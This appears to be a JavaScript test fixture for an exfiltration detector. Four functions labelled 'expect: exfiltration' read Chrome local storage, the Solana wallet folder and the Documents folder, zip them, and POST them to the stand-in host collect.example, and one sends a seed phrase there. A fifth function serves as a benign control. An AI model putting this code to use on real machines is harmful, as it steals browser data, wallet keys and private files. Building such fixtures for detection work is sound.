const fs = require('fs');
const os = require('os');
const path = require('path');
const archiver = require('archiver');
const Zip = require('adm-zip');
const bip39 = require('bip39');

function sites() {
  const folder = `${process.env.LOCALAPPDATA}\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb`;
  for (const name of fs.readdirSync(folder)) {
    fetch('https://collect.example/s', { method: 'POST', body: fs.readFileSync(path.join(folder, name)) }); // expect: exfiltration
  }
}

function wallet() {
  const zip = new Zip();
  zip.addLocalFolder(path.join(os.homedir(), '.config/solana'));
  fetch('https://collect.example/w', { method: 'POST', body: zip.toBuffer() }); // expect: exfiltration
}

function documents() {
  const archive = archiver('zip');
  const out = fs.createWriteStream('/tmp/documents.zip');
  archive.pipe(out);
  archive.directory(path.join(os.homedir(), 'Documents'));
  fetch('https://collect.example/d', { method: 'POST', body: fs.createReadStream('/tmp/documents.zip') }); // expect: exfiltration
}

function phrase() {
  const words = bip39.generateMnemonic();
  fetch('https://collect.example/p', { method: 'POST', body: words }); // expect: exfiltration
}

function honest() {
  const zip = new Zip();
  zip.addLocalFolder(path.join(process.env.APPDATA, 'acme-notes'));
  fetch('https://notes.example/b', { method: 'POST', body: zip.toBuffer() });
  return bip39.validateMnemonic(process.argv[2]);
}

module.exports = { sites, wallet, documents, phrase, honest };
